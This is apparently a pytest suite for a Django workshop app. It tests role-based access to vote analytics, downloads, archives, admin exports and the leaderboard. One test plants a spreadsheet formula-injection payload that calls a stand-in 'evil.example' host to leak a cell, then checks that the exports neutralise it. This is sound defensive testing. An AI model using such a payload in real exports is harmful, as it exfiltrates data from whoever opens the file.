"""The analyst's routes to the votes: page, downloads, archives, command, admin, leaderboard.

An outsider (member of another organisation only) gets no row of the first one by any route.
"""

import base64
import csv
import io
import json
import zipfile

import pyarrow.parquet as pq
import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.urls import reverse

from tests.conftest import PASSWORD, make_user
from tests.live_fixtures import phone
from workshop import dataset, exports, leaderboard, simulation
from workshop.live import Ballot, cast_vote
from workshop.models import HandCount, Membership, Organisation, Role, Round, Vote


@pytest.fixture(autouse=True)
def small_bootstrap(settings, tmp_path):
    settings.LEADERBOARD_SAMPLES = 20
    settings.EXPORTS_DIR = tmp_path / "exports"
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def played(live_workshop):
    """The live workshop's duel with three phone votes (two for A, one tie) and raised hands."""
    simulation.advance_to(live_workshop.pk, {"vote_open"})
    round_ = Round.objects.get(workshop=live_workshop)
    for index, choice in enumerate(["a", "a", "both_equal"]):
        participant = phone(live_workshop.room_a).participant
        cast_vote(
            participant.pk,
            Ballot(round_.pk, choice, {"a": ["useful"]}, "secret", "", f"c{index}"),
        )
    HandCount.objects.create(round=round_, room=live_workshop.room_b, a=5, b=9, both_equal=1)
    live_workshop.round = round_
    return live_workshop


@pytest.fixture
def org_analyst(played):
    user = make_user("analyste")
    Membership.objects.create(user=user, organisation=played.organisation, role=Role.ANALYST)
    return user


def login(client, user):
    client.force_login(user)
    return client


def parquet_rows(response) -> list[dict]:
    body = b"".join(response.streaming_content)
    return pq.read_table(io.BytesIO(body)).to_pylist()


def test_an_analyst_sees_the_page_with_counts_and_download_links(client, org_analyst):
    response = login(client, org_analyst).get(reverse("analytics"))
    assert response.status_code == 200
    assert "3 votes retenus" in response.content.decode()
    assert reverse("analytics_download", args=["votes", "parquet"]) in response.content.decode()


def test_an_analyst_downloads_the_organisation_s_votes_as_parquet(client, org_analyst, played):
    url = reverse("analytics_download", args=["votes", "parquet"])
    response = login(client, org_analyst).get(url)
    assert response.status_code == 200
    rows = parquet_rows(response)
    assert len(rows) == 3
    assert {r["organisation"] for r in rows} == {"mediatheque"}
    assert all(r["conv_comments_a"] is None for r in rows)


def test_a_script_downloads_with_basic_credentials(client, org_analyst):
    credentials = base64.b64encode(f"analyste:{PASSWORD}".encode()).decode()
    url = reverse("analytics_download", args=["votes", "jsonl"])
    response = client.get(url, HTTP_AUTHORIZATION=f"Basic {credentials}")
    assert response.status_code == 200
    assert len(b"".join(response.streaming_content).splitlines()) == 3
    wrong = base64.b64encode(b"analyste:wrong").decode()
    assert client.get(url, HTTP_AUTHORIZATION=f"Basic {wrong}").status_code == 401


def test_anonymous_visitors_are_sent_to_log_in(client, played):
    response = client.get(reverse("analytics_download", args=["votes", "csv"]))
    assert response.status_code == 302


def test_csv_and_filters_by_model_and_dates(client, org_analyst, played):
    login(client, org_analyst)
    url = reverse("analytics_download", args=["votes", "csv"])
    body = b"".join(client.get(url, {"model": played.small.slug}).streaming_content)
    assert len(body.decode().splitlines()) == 4  # header and three votes
    body = b"".join(client.get(url, {"since": "2999-01-01"}).streaming_content)
    assert len(body.decode().splitlines()) == 1


def test_an_outsider_gets_404_for_the_other_organisation(client, outsider, played):
    login(client, outsider)
    slug = played.organisation.slug
    assert client.get(reverse("analytics"), {"organisation": slug}).status_code == 404
    for table in ["votes", "conversations", "reactions", "tallies"]:
        url = reverse("analytics_download", args=[table, "parquet"])
        assert client.get(url, {"organisation": slug}).status_code == 404
        assert client.get(url, {"workshop": played.pk}).status_code == 404
    assert client.get(reverse("leaderboard"), {"organisation": slug}).status_code == 404
    assert client.get(reverse("leaderboard_chart"), {"organisation": slug}).status_code == 404


def test_an_outsider_s_own_downloads_hold_no_row_of_the_other_organisation(
    client, outsider, played
):
    login(client, outsider)
    for table in ["votes", "conversations", "reactions", "tallies"]:
        response = client.get(reverse("analytics_download", args=[table, "parquet"]))
        assert response.status_code == 200
        assert parquet_rows(response) == []
    page = client.get(reverse("leaderboard")).content.decode()
    assert played.big.name not in page


def test_a_member_of_no_organisation_gets_404(client, played):
    login(client, make_user("nobody"))
    assert client.get(reverse("analytics")).status_code == 404
    assert client.get(reverse("leaderboard")).status_code == 404


def test_an_archive_is_prepared_in_the_background_and_listed_once_ready(
    client, org_analyst, django_capture_on_commit_callbacks, monkeypatch
):
    queued = []
    monkeypatch.setattr("workshop.tasks.export_dataset.delay", lambda *args: queued.append(args))
    login(client, org_analyst)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("analytics_request_archive"), {"format": "parquet"})
    assert response.status_code == 302
    [(user_id, export_id)] = queued
    assert "en préparation" in client.get(reverse("analytics")).content.decode()
    exports.run(user_id, export_id)
    page = client.get(reverse("analytics")).content.decode()
    assert "prête, télécharger" in page
    response = client.get(reverse("analytics_archive", args=[export_id]))
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        votes = pq.read_table(io.BytesIO(archive.read("votes.parquet")))
        assert votes.num_rows == 3
        assert "license: etalab-2.0" in archive.read("README.md").decode()


def test_an_outsider_cannot_fetch_someone_else_s_archive(client, org_analyst, outsider):
    export_id = exports.request_export(org_analyst, dataset.selection_for(org_analyst), "csv")
    exports.run(org_analyst.pk, export_id)
    login(client, outsider)
    assert client.get(reverse("analytics_archive", args=[export_id])).status_code == 404


def test_the_command_exports_one_organisation(tmp_path, played, other_org):
    call_command(
        "export_votes",
        "--format",
        "parquet",
        "--out",
        str(tmp_path / "a"),
        "--organisation",
        played.organisation.slug,
        stdout=io.StringIO(),
    )
    assert pq.read_table(tmp_path / "a" / "votes.parquet").num_rows == 3
    assert pq.read_table(tmp_path / "a" / "tallies.parquet").num_rows == 1
    call_command(
        "export_votes",
        "--format",
        "jsonl",
        "--out",
        str(tmp_path / "b"),
        "--organisation",
        other_org.slug,
        stdout=io.StringIO(),
    )
    assert (tmp_path / "b" / "votes.jsonl").read_text() == ""


def test_the_admin_action_exports_only_workshops_the_user_may_view(client, outsider, played):
    login(client, outsider)
    response = client.post(
        reverse("admin:workshop_workshop_changelist"),
        {"action": "export_votes", "_selected_action": [played.pk]},
    )
    # The outsider's changelist does not even hold the workshop: nothing is exported.
    assert response.status_code in (200, 302)
    assert response.get("Content-Type") != "application/zip"
    assert not hasattr(response, "streaming_content")


def test_the_admin_action_gives_the_owner_a_zip(client, played, superuser):
    login(client, superuser)
    response = client.post(
        reverse("admin:workshop_workshop_changelist"),
        {"action": "export_votes", "_selected_action": [played.pk]},
    )
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        assert pq.read_table(io.BytesIO(archive.read("votes.parquet"))).num_rows == 3


def test_the_leaderboard_counts_votes_and_raised_hands(played):
    outcomes = leaderboard.outcomes((played.organisation_id,))
    assert sum(weight for *_, weight in outcomes) == 3 + 15
    board = leaderboard.board(played.organisation_id)
    assert {row.standing.model for row in board.rows} == {played.big.slug, played.small.slug}
    assert board.front  # both models have a known size, so a known energy


def test_simulated_votes_stay_out_of_the_leaderboard(played):
    fake = simulation.add_participants(played.room_a, 5)
    for index, participant in enumerate(fake):
        cast_vote(participant.pk, Ballot(played.round.pk, "b", {}, "", "", f"s{index}"))
    assert sum(w for *_, w in leaderboard.outcomes((played.organisation_id,))) == 18
    assert sum(w for *_, w in leaderboard.outcomes(None, include_simulated=True)) == 23


def test_the_leaderboard_page_and_its_svg_chart(client, org_analyst):
    login(client, org_analyst)
    page = client.get(reverse("leaderboard"))
    assert page.status_code == 200
    assert "Classement" in page.content.decode()
    chart = client.get(reverse("leaderboard_chart"))
    assert chart["Content-Type"] == "image/svg+xml"
    svg = chart.content.decode()
    assert (
        svg.startswith("<svg")
        and "Front frugal" in svg
        and "http" not in svg.replace("http://www.w3.org/2000/svg", "")
    )


def test_a_stale_board_is_shown_and_recomputed_in_the_background(
    played, monkeypatch, django_capture_on_commit_callbacks
):
    queued = []
    monkeypatch.setattr("workshop.tasks.refresh_leaderboard.delay", queued.append)
    first = leaderboard.board(played.organisation_id)
    monkeypatch.setattr(leaderboard, "FRESH_SECONDS", -1)
    with django_capture_on_commit_callbacks(execute=True):
        assert leaderboard.board(played.organisation_id) is not None
    assert queued == [played.organisation_id]
    assert first.rows


def test_simulate_workshop_plays_the_duels_through_the_state_machine(live_workshop):
    out = io.StringIO()
    call_command(
        "simulate_workshop",
        live_workshop.room_a.join_code,
        "--participants",
        "40",
        "--seed",
        "3",
        stdout=out,
    )
    assert "1 duels joués" in out.getvalue()
    votes = Vote.objects.filter(round__workshop=live_workshop)
    assert votes.count() == 40
    assert all(v.participant.simulated for v in votes)
    choices = set(votes.values_list("choice", flat=True))
    assert {"a", "b"} <= choices
    assert votes.exclude(reasons={}).exists()
    live_workshop.refresh_from_db()
    assert live_workshop.phase == "ended"


def test_downloads_and_archives_in_csv_or_jsonl_defuse_a_formula_comment(
    client, org_analyst, played
):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"Cliquez")'
    Organisation.objects.filter(pk=played.organisation_id).update(export_free_text=True)
    Vote.objects.update(comment_a=formula)
    login(client, org_analyst)
    for table, fmt, column in [
        ("votes", "csv", "conv_comments_a"),
        ("reactions", "csv", "comment"),
        ("votes", "jsonl", "conv_comments_a"),
    ]:
        response = client.get(reverse("analytics_download", args=[table, fmt]))
        text = b"".join(response.streaming_content).decode()
        rows = (
            csv.DictReader(io.StringIO(text))
            if fmt == "csv"
            else [json.loads(line) for line in text.splitlines()]
        )
        assert {row[column] for row in rows} == {"'" + formula}, (table, fmt)
    export_id = exports.request_export(org_analyst, dataset.selection_for(org_analyst), "csv")
    exports.run(org_analyst.pk, export_id)
    response = client.get(reverse("analytics_archive", args=[export_id]))
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("votes.csv").decode())))
    assert {row["conv_comments_a"] for row in rows} == {"'" + formula}


# The votes are the analysts' and admins': a facilitator gets none of them ----------------


def test_a_facilitator_gets_404_for_the_votes_and_every_download(client, played):
    facilitator = played.facilitator_user
    login(client, facilitator)
    assert client.get(reverse("analytics")).status_code == 404
    for table in dataset.TABLES:
        for fmt in ["parquet", "jsonl", "csv"]:
            url = reverse("analytics_download", args=[table, fmt])
            assert client.get(url).status_code == 404, (table, fmt)
            assert client.get(url, {"workshop": played.pk}).status_code == 404
    response = client.post(reverse("analytics_request_archive"), {"format": "csv"})
    assert response.status_code == 404
    # An archive made for them (when they were an analyst, say) is not theirs to fetch now.
    selection = dataset.Selection(organisation_ids=(played.organisation_id,))
    export_id = exports.request_export(facilitator, selection, "csv")
    exports.run(facilitator.pk, export_id)
    assert client.get(reverse("analytics_archive", args=[export_id])).status_code == 404
    # The leaderboard (rankings, no comment) stays theirs, without a link to the votes.
    board = client.get(reverse("leaderboard"))
    assert board.status_code == 200
    assert f'href="{reverse("analytics")}"' not in board.content.decode()


def test_a_facilitator_s_script_gets_404_with_basic_credentials(client, played):
    credentials = base64.b64encode(b"anim:pw-anim-123456").decode()
    url = reverse("analytics_download", args=["votes", "csv"])
    assert client.get(url, HTTP_AUTHORIZATION=f"Basic {credentials}").status_code == 404


def test_an_analyst_and_an_admin_of_the_organisation_still_download(client, org_analyst, played):
    admin = make_user("directrice")
    Membership.objects.create(user=admin, organisation=played.organisation, role=Role.ADMIN)
    for user in (org_analyst, admin):
        login(client, user)
        assert client.get(reverse("analytics")).status_code == 200
        response = client.get(reverse("analytics_download", args=["votes", "parquet"]))
        assert len(parquet_rows(response)) == 3
        board = client.get(reverse("leaderboard")).content.decode()
        assert f'href="{reverse("analytics")}"' in board


def export_action(client, workshop):
    return client.post(
        reverse("admin:workshop_workshop_changelist"),
        {"action": "export_votes", "_selected_action": [workshop.pk]},
    )


def test_the_admin_action_is_not_offered_to_a_facilitator_and_refused_if_posted(client, played):
    login(client, played.facilitator_user)
    changelist = client.get(reverse("admin:workshop_workshop_changelist"))
    assert changelist.status_code == 200
    assert 'value="export_votes"' not in changelist.content.decode()
    response = export_action(client, played)
    assert response.get("Content-Type") != "application/zip"
    assert not hasattr(response, "streaming_content")


def test_the_admin_action_gives_an_analyst_and_an_admin_a_zip(client, org_analyst, played):
    admin = make_user("directrice")
    Membership.objects.create(user=admin, organisation=played.organisation, role=Role.ADMIN)
    for user in (org_analyst, admin):
        login(client, user)
        changelist = client.get(reverse("admin:workshop_workshop_changelist"))
        assert 'value="export_votes"' in changelist.content.decode()
        response = export_action(client, played)
        assert response.status_code == 200
        with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
            assert pq.read_table(io.BytesIO(archive.read("votes.parquet"))).num_rows == 3
